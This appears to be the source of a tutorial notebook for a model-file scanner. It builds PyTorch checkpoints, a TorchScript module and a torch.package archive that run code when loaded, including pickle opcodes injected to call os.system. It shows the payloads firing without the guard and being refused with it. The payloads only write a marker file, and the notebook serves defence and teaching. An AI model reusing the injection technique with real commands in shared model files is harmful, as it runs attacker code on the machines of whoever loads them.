# ruff: noqa: E402 - a notebook imports where it needs something
# The source of pytorch.ipynb, cell by cell; `tools/build_notebooks.py` builds it. A line "# %name" is an IPython magic.

# %% [markdown]
# # PyTorch: a checkpoint that runs something
#
# `torch.save` writes pickles, and a pickle may call whatever it names. TorchScript and `torch.package` archives go
# further: they carry code. Here each kind gets a payload that only writes `marker.txt`. Then the guard is switched on,
# and the same files are loaded again.

# %%
import os
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import torch
import torch.package

start = Path.cwd()
folder = tempfile.TemporaryDirectory()
os.chdir(folder.name)
marker = Path("marker.txt")


class Payload:
    def __reduce__(self):
        return os.system, ("echo the model ran this > marker.txt",)


# %% [markdown]
# ## The attack
#
# **A checkpoint.** A good one is opened, and opcodes that call `os.system` are put in front of its own. What it loads
# stays the same, and so does every weight.

# %%
torch.save({"weight": torch.zeros(2, 2)}, "clean.pt")
call = b"cos\nsystem\n(X\x24\x00\x00\x00echo the model ran this > marker.txttR0"
with zipfile.ZipFile("clean.pt") as clean, zipfile.ZipFile("injected.pt", "w") as injected:
    for member in clean.infolist():
        data = clean.read(member)
        if member.filename.endswith("data.pkl"):
            data = data[:2] + call + data[2:]  # behind the protocol byte
        injected.writestr(member, data)

# %% [markdown]
# **The format before PyTorch 1.6** still loads: five pickles behind each other, without an archive around them.

# %%
old = {"weight": torch.zeros(2, 2), "extra": Payload()}
torch.save(old, "legacy.pt", _use_new_zipfile_serialization=False)

# %% [markdown]
# **TorchScript** is compiled code that PyTorch interprets. It cannot import, but its `__setstate__` runs while it is
# loaded and may save a tensor under any name. **A package** holds Python files, which run when its model is loaded.


# %%
class Saves(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.path = "marker.txt"

    @torch.jit.export
    def __getstate__(self):
        return self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]):
        self.path = state[0]
        self.training = state[1]
        torch.save(torch.zeros(1), self.path)

    def forward(self, x):
        return x


torch.jit.script(Saves()).save("script.pt")
torch.jit.script(torch.nn.Linear(2, 2)).save("clean_script.pt")

source = "open('marker.txt', 'w').write('the package ran this')\nclass Net: pass\n"
with torch.package.PackageExporter("package.pt") as package:
    package.save_source_string("net", source)
    package.save_pickle("model", "model.pkl", {"weight": [1.0]})

# %% [markdown]
# ### They are live
#
# Each is loaded in a process without a guard, as its documentation says:

# %% tags=["ran-each"]
child = """
import os, torch, torch.package
for name, load in {
    "injected.pt": lambda path: torch.load(path, weights_only=False),
    "legacy.pt": lambda path: torch.load(path, weights_only=False),
    "script.pt": torch.jit.load,
    "package.pt": lambda path: torch.package.PackageImporter(path).import_module("net"),
}.items():
    load(name)
    print(f"{name:12} payload ran: {os.path.exists('marker.txt')}")
    os.remove("marker.txt")
"""
print(subprocess.run([sys.executable, "-c", child], capture_output=True, text=True, check=True).stdout, end="")

# %% [markdown]
# ## What the guard does

# %%
# %load_ext modelscan

# %% tags=["raises-exception", "refused"]
torch.load("injected.pt", weights_only=False)

# %% tags=["raises-exception", "refused"]
torch.load("legacy.pt", weights_only=False)

# %% tags=["raises-exception", "refused"]
torch.jit.load("script.pt")

# %% tags=["raises-exception", "refused"]
torch.package.PackageImporter("package.pt").import_module("net")

# %% tags=["marker"]
print("payload ran:", marker.exists())

# %% [markdown]
# What is clean loads as ever, `weights_only=False` or not:

# %% tags=["clean"]
weights = torch.load("clean.pt", weights_only=False)
layer = torch.jit.load("clean_script.pt")

# %% [markdown]
# ## What the evidence says
#
# The same without loading anything: what each file asks for, and where in it.

# %% tags=["torch"]
import modelscan

for path in sorted(Path().glob("*.pt")):
    report = modelscan.scan(path)
    worst = report.findings[0] if report.findings else None
    about = f"{worst.severity!s:9} {worst.rule}  {worst.operator:15} {worst.where}" if worst else ""
    print(f"{path.name:16} {report.verdict:7} {about}")

# %% [markdown]
# The byte position is that of the call. A package is HIGH because it carries Python at all: nothing can say in advance
# what a program does, so somebody has to read it.
#
# ## Going on safely
#
# - Ask for weights, not objects: safetensors, or `weights_only=True`, PyTorch's own default since 2.6. Neither needs code.
# - Your own classes load. Somebody else's make the file UNVERIFIED, which loads with one line that names them.
# - If you know who made a refused file, let that one file through: `%modelscan allow --once N`, or for good by its hash
#   with a reason, `%modelscan allow N --reason "…"`.

# %%
# %unload_ext modelscan

# %%
os.chdir(start)
folder.cleanup()
